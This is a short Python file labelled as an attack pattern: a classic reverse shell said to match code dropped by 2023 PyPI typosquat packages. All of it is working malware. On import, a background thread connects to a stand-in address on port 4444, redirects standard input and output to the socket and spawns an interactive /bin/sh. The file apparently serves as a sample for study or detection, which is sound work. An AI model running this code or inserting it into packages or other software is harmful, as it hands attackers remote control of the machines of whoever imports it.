# Attack pattern: classic Python reverse shell (socket connect, os.dup2 onto 0/1/2, /bin/sh -i), as dropped by several 2023 PyPI typosquats.
import os
import socket
import subprocess
import threading


def _connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.10", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])


threading.Thread(target=_connect, daemon=True).start()
